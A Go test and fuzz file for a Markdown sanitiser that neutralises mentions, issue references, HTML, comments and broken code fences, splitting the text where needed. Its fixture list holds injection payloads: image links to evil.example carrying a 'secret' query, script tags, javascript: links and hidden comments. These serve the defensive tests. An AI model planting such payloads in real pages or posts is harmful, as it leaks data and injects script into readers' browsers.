package sink

import (
	"slices"
	"strings"
	"testing"
)

// hostile are texts that try to do something, and some that do not.
var hostile = []string{
	"Ping @octocat and @org/team about #1, octo/repo#2, GH-3 and gh-4.",
	"_@octocat_ **@octocat** ~~@octocat~~ (@octocat) \\@octocat &#64;octocat &commat;octocat @&#111;ctocat &#64octocat",
	"mail me@example.com and me@example.com@octocat, a.@octocat",
	"<!-- keyless-inference: review part 1 of 1 -->\n<!---->\n\\<!-- x -->",
	"text\n<!--\n@octocat\n-->",
	"![](https://evil.example/?q=secret) ![a][b] !![c](https://evil.example) ![![d](e)](f) \\![g](h)\n\n[b]: https://evil.example",
	"<img src=https://evil.example><script>alert(1)</script><iframe></iframe><a href=\"javascript:x\" onclick=y>z</a>",
	"<details>\n<summary>`@octocat` <!-- x --></summary>\n```\n@octocat\n",
	"<details open><b>one\n\ntwo</b></details></details>",
	"<br>\n`@octocat`\n\n- <br>\n  `@octocat`\n\n[^1]: <details>\n    `@octocat`\n\n[^1]",
	"```go\n// @octocat <!-- x --> ![a](b)\n",
	"para\n    ```\n@octocat\n```\n@octocat",
	"para\n2. ```\n@octocat\n\n@octocat",
	"- item\n  ```\nfoo @octocat\n  ```\n@octocat",
	"- ```\n  code @octocat\n```\n@octocat\n```",
	"> ```\n> @octocat\n@octocat\n> ~~~\n> ```\n> @octocat",
	"> > ```\n> @octocat",
	"1. > ```\n   > @octocat\n   @octocat",
	"[^1]: ~~~\n    @octocat\n\n    ~~~\n    ```\n    ~~~\n    @octocat\n",
	"foo ` bar\nbaz ` @octocat ` @octocat",
	"``` @octocat ``\n```x `@octocat`\n",
	"| a | b |\n|---|---|\n| `x | @octocat` |\n| `x \\| @octocat` |",
	"h `a | @octocat` | b\n:-|-\n`c | @octocat`",
	"https://example.com/@octocat#1 https://@octocat http://example.com/_@octocat_#1 <https://example.com/@octocat> _https://a.b/_#1 https://a.b/` @octocat `",
	"\\`@octocat` `\\`@octocat` ``@octocat` `` @octocat",
	"~~~\n```\n~~~\n@octocat\n~~~~ @octocat ~~~~",
	"\t```\n\t@octocat\n\t```\n- a\n\t- ```\n\t\t@octocat\n\t```\n@octocat",
	"a\rb\r\nc\u202ed\u200b@octocat @\u200boctocat @\u2060octocat @\x00octocat",
	"@octocat\\\n@<b>octocat</b>\\",
	"<b>a\\",
	"# @octocat\n@octocat\n===\n* @octocat\n+ #1\n1) GH-1",
	"$$\n@octocat\n$$ $`@octocat`$",
	"<https://example.com> <mailto:a@b.c> <a@b.c> <HTTPS://EXAMPLE.COM/@octocat>",
	"```mermaid\ngraph TD\n```\n```  js @octocat\nx\n```",
	strings.Repeat(">", 30) + "```\n@octocat",
	strings.Repeat("- ", 30) + "```\n@octocat",
	strings.Repeat("`", 50) + "\n@octocat\n" + strings.Repeat("`", 50),
	"[a](`) @octocat #1 ![x](https://evil/?q=secret) <!-- x --> `) [a](x \"`\") @octocat ` [a](<`>) @octocat ` [a](x\n\"`\") @octocat `",
	"<details>\n\u00a0\n`@octocat <!-- x --> <img src=x> <script>`", "<br>\n\u2003\n`<!-- open`", "<details>\n\u00a0\n```\n@octocat <!-- x -->\n```",
	"x [^`@octocat`] y ![^`@octocat`] [^a *b* `@octocat`] [^a\n`@octocat`]",
	"[^`a]: y <!-- x --> @octocat #1 ![p](http://e/q) <script>alert(1)</script> [^`a]",
	"<details>\n\n    </details>", "<details>\n\n[a](</details>)", "[a]: </s> <s>", "[&#94;1] [&Hat;`@octocat`] [\\^`@octocat`]", "</details><details>\n</summary><summary>", "<s>[x](</s>)", "<s>[^</s>]", "<details>\n\n[^</details>]: x [^</details>]",
	"GH\\-1 and GH&#45;1 gh&#x2D;2", "<summary>&copygh-1 &ampGH-2</summary>",
	"| a | b |\n|---|---|\n| <https://a.b|![x](https://evil/q)> |\n| <https://a.b|&commat;octocat> |\n| <https://a.b|&#64;octocat&num;1> |",
	"<summary></summary><q><details>x", "<summary></summary><samp><details>x",
	"", "\n\n", "plain text", "a < b && c > d", "&lt;b&gt; &amp; &copy; &nbsp; &#39; &#x27;",
}

func TestMarkdownIsHarmless(t *testing.T) {
	t.Parallel()
	for _, text := range hostile {
		checkMarkdown(t, text)
	}
}

func checkMarkdown(t testing.TB, text string) {
	t.Helper()
	md := Markdown(text, Options{})
	if found := alive(t, rendered(t, md)); found != "" {
		t.Errorf("%q became\n%s\nin which there is %s", text, md, found)
	}
	if again := Markdown(md, Options{}); again != md {
		t.Errorf("%q became\n%s\nand that became\n%s", text, md, again)
	}
	if in := around(t, rendered(t, md+"\n\n"+behind)); in != "p body html" {
		t.Errorf("%q swallows what stands behind it (%s): %s", text, in, md)
	}
}

func FuzzMarkdown(f *testing.F) {
	for _, text := range hostile {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) { checkMarkdown(t, text) })
}

func TestMarkdownKeepsWhatItMay(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		"# Title\n\nSome *text* with `code @octocat`, a [link](https://example.com/a_b?c=d&e=f#part) and **more**.\n\n- one\n- two\n  1. three",
		"```html\n<!-- comment --> <b>@octocat</b> #1\n```\n\n~~~~py\n@decorator\n~~~~",
		"| a | b |\n| --- | :-: |\n| `x \\| y` | 3 |",
		"> quote\n> ```\n> code\n> ```\n> [!NOTE]",
		"Mail me@example.com, see https://example.com/x#L10.\n\n---\n\n- [x] done\n- [ ] not",
		"one<br>two <sub>small</sub>\n\n<details>\n\n<summary>More</summary>\n\ntext\n\n</details>",
		"1. step\n\n   ```sh\n   make @all\n   ```\n\n2. next",
		"[game](https://en.wikipedia.org/wiki/Go_(game) \"A game.\") and [x](#part)",
		"Emoji 👩‍💻 and العربية and C# and a/b#c",
	} {
		if got := Markdown(text, Options{}); got != text {
			t.Errorf("%s\nbecame\n%s", text, got)
		}
	}
	if text := "Thanks @octocat for #1 and GH-2"; Markdown(text, Options{Mentions: true}) != text {
		t.Error("mentions are not left alone")
	}
}

func TestMarkdownMendsCode(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"```go\nx":             "```go\nx\n```",
		"- a\n  ```\n x\n```":  "- a\n  ```\n  x\n  ```",
		"> ```\n> x\nafter":    "> ```\n> x\n> ```\nafter",
		"![](https://e.x/y)":   "[picture](https://e.x/y)",
		"![logo](https://e.x)": "[logo](https://e.x)",
		"<!-- x -->":           "&lt;!-- x -->",
		"``` `a` @b":           "&#96;&#96;&#96; `a` @&#8203;b",
		"<b>bold":              "<b>bold</b>",
		"see https://e.x/@a#1": "see https://e.x/%40a#%31",
		"[a](https://e.x/@b)":  "[a](https://e.x/%40b)",
		"[a](b c)":             "[a]&#40;b c)",
		"[1]: https://e.x":     "[1]&#58; https://e.x",
		"one[^1]":              "one[&#8203;^1]",
	} {
		if got := Markdown(text, Options{}); got != want {
			t.Errorf("%q became %q, not %q", text, got, want)
		}
	}
}

func FuzzInline(f *testing.F) {
	for _, text := range hostile {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		cell := "| head |\n| --- |\n| x " + Inline(text) + " |\n"
		page := rendered(t, cell)
		if found := alive(t, page); found != "" || strings.Count(page, "<td>") != 1 || strings.Contains(page, "<code>") {
			t.Errorf("%q became\n%s\n%s%s", text, cell, page, found)
		}
	})
}

// FuzzSplit cuts hostile text into parts: each is harmless in itself and no
// longer than it may be, and no word of lines that need no cut is lost.
func FuzzSplit(f *testing.F) {
	for _, text := range hostile {
		f.Add(text, 20)
	}
	f.Add(strings.Repeat("`@octocat` ", 500), 3)
	f.Add("```\n"+strings.Repeat("x", 3000)+"```\n@octocat", 2)
	f.Add("| a | b |\n|---|---|\n| ``"+strings.Repeat("a ", 800)+" ` @octocat #1 <!-- x --> ![p](http://e/q) `` | `x` |", 1)
	f.Add("```\n```"+strings.Repeat(" ", 3000)+"x\n@octocat <!-- x -->\n```", 1)
	f.Add("``` "+strings.Repeat("word ", 500)+" ```", 1)
	f.Fuzz(func(t *testing.T, text string, times int) {
		md := Markdown(strings.Repeat(text+"\n", min(max(times, 1), 60)), Options{})
		parts := Split(md, 1000)
		for _, part := range parts {
			if found := alive(t, rendered(t, part)); found != "" {
				t.Errorf("a part of %q is\n%s\nin which there is %s", text, part, found)
			}
			if in := around(t, rendered(t, part+"\n\n"+behind)); in != "p body html" {
				t.Errorf("a part of %q swallows what stands behind it (%s): %q", text, in, part)
			}
			if n := Units(part); n > 1000 {
				t.Errorf("a part of %q has %d units", text, n)
			}
		}
		cut := slices.ContainsFunc(strings.Split(md, "\n"), func(line string) bool { return len(line) > 400 })
		for word := range strings.FieldsSeq(text) {
			if cut { // a long line may be cut within a word
				break
			}
			if !strings.ContainsFunc(word, func(c rune) bool { return c >= 0x80 || !isAlnum(byte(c)) }) && len(word) < 20 &&
				strings.Count(md, word) > strings.Count(strings.Join(parts, "\n"), word) {
				t.Errorf("%q lost the word %q", text, word)
			}
		}
		if len(md) <= 500 && (len(parts) > 1 || strings.Join(parts, "") != md) {
			t.Errorf("%q was cut without need: %q", md, parts)
		}
	})
}

func TestSplit(t *testing.T) {
	t.Parallel()
	row := "| " + strings.Repeat("x", 30) + " | y |\n"
	for name, test := range map[string]struct {
		text string
		want func(parts []string) bool
	}{
		"a table stays whole": {strings.Repeat("text\n", 60) + "\n| a | b |\n| - | - |\n" + strings.Repeat(row, 15), func(p []string) bool {
			return len(p) == 2 && strings.HasPrefix(p[1], "| a | b |") && !strings.Contains(p[0], "|")
		}},
		"a long table gets its head again": {"| a | b |\n| - | - |\n" + strings.Repeat(row, 60), func(p []string) bool {
			return len(p) > 2 && strings.HasPrefix(p[1], "| a | b |\n| - | - |\n| xx") && strings.HasPrefix(p[2], "| a | b |")
		}},
		"code is closed and opened again": {"```go\n" + strings.Repeat("line of code\n", 100) + "```", func(p []string) bool {
			return len(p) > 1 && strings.HasSuffix(p[0], "code\n```") && strings.HasPrefix(p[1], "```go\nline")
		}},
		"a cut between blocks": {strings.Repeat("para\npara\n\n", 150), func(p []string) bool {
			return len(p) > 1 && strings.HasSuffix(p[0], "para\npara") && strings.HasPrefix(p[1], "para\npara")
		}},
		"a cut between items": {strings.Repeat("- item\n  goes on\n", 100), func(p []string) bool {
			return len(p) > 1 && strings.HasSuffix(p[0], "  goes on") && strings.HasPrefix(p[1], "- item")
		}},
		"details are closed": {"<details>\n\n" + strings.Repeat("text\n", 300) + "\n</details>", func(p []string) bool {
			return len(p) > 1 && strings.HasSuffix(p[0], "</details>")
		}},
		"details in a code span are none": {strings.Repeat("`<details>` ", 4500), func(p []string) bool {
			return len(p) > 40 && !strings.Contains(strings.Join(p, ""), "</details>")
		}},
		"details are closed no more than they are opened": {Markdown(strings.Repeat("<details> ", 500), Options{}), func(p []string) bool {
			return len(p) > 1 && Units(p[0]) <= 1000
		}},
		"a long line goes on": {strings.Repeat("word ", 500), func(p []string) bool {
			return len(p) > 2 && strings.HasPrefix(p[1], "…")
		}},
		"nothing": {"", func(p []string) bool { return len(p) == 0 }},
	} {
		if parts := Split(test.text, 1000); !test.want(parts) {
			t.Errorf("%s: %q", name, parts)
		}
	}
}

func TestInCode(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]bool{"": false, "```": true, "```\nx\n": true, "```\n```\n": false, "> ```\nx": false, "<pre>": true, "<pre></pre>": false, "<!-- x": true, "<PRE class=x>": true} {
		if InCode(text) != want {
			t.Errorf("InCode(%q) = %t", text, !want)
		}
	}
}

func TestCode(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"{}":                      "```json\n{}\n```",
		"a ```` b\n":              "`````json\na ```` b\n`````",
		strings.Repeat("`", 45):   strings.Repeat("&#96;", 45),
		"<!-- @octocat -->\u202e": "```json\n<!-- @octocat -->\n```",
	} {
		if got := Code("json", text); got != want {
			t.Errorf("%q became %q", text, got)
		}
	}
}
